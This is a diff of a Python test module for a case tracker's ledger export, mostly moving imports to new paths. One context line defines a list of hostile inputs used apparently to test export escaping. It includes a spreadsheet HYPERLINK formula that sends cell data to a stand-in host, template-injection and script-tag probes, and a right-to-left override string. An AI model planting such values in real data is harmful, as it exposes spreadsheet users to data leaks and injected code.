@@ -21,16 +21,16 @@ from tests.world.rows import TODAY, a_case, assigned, kept, reader
 from tracker.audit import Event, record
 from tracker.audit.models import AuditEvent
 from tracker.audit.queries import verify
-from tracker.cases.models import Case, NamedReader
-from tracker.cases.queries.ledger import EXPORT_COLUMNS, Filters, page
-from tracker.cases.queries.ledger.export import WITHHELD
+from tracker.cases.ledger import EXPORT_COLUMNS, Filters, page
+from tracker.cases.ledger.export import WITHHELD
+from tracker.cases.record.models import Case, NamedReader
 from tracker.core import clock as core_clock
 from tracker.core.database import committed, db
 from tracker.core.errors import DomainError
 from tracker.people.models import User
 from tracker.people.rules import Reader, Role
 from tracker.spreadsheets.export_ledger import export
-from tracker.web import exports
+from tracker.web.ledger import exports
 
 NASTY = ('=HYPERLINK("http://x/?"&B1)', "+1", "-1", "@SUM(A1)", "a\x0bb\u202egpj", "长" * 40_000, "{{7*7}}", "<script>")
 
